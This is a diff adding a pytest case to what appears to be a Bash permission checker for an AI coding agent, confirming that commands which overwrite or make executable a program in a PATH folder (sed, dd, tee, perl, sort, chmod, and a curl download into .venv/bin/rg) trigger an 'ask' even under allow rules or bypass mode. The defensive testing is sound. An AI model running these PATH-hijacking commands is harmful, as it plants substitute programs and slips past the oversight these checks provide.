@@ -127,3 +127,19 @@ def test_the_copy_chain_it_stops(project):
     ran = subprocess.run(["bash", "-c", "cat notes.txt"], cwd=project, capture_output=True, text=True, env=env,
                          timeout=10)
     assert "PAYLOAD-RAN" in ran.stdout
+
+
+@pytest.mark.parametrize("command", ["tee .venv/bin/rg < notes.txt", "sed -i s/real/fake/ .venv/bin/rg",
+                                     "dd if=notes.txt of=.venv/bin/rg", "perl -pi -e s/real/fake/ .venv/bin/rg",
+                                     "sort -o .venv/bin/rg notes.txt", "sed -n 'w .venv/bin/rg' notes.txt",
+                                     "curl -o .venv/bin/rg https://example.com/x", "chmod +x .venv/bin/notes.txt"])
+def test_a_program_rewritten_in_place_asks_under_a_rule(project, command):
+    """A rule that allows the writing program (`Bash(sed:*)`) does not let it rewrite the
+    program on PATH (it keeps its mode) or make a file there executable: as for a redirect."""
+    (project / "notes.txt").write_text("notes\n")
+    rules = tuple(f"Bash({p}:*)" for p in ("tee", "sed", "dd", "perl", "sort", "curl", "chmod"))
+    for ctx in (make_ctx(project, allow=rules), make_ctx(project, mode="bypassPermissions")):
+        verdict = check_bash_permission(command, ctx)
+        assert verdict_name(verdict) == "ask" and "folder on PATH" in verdict.message, (command, verdict)
+    assert verdict_name(check_bash_permission(command.replace(".venv/bin/", "out/"), make_ctx(project, allow=rules))) \
+        == "allow"
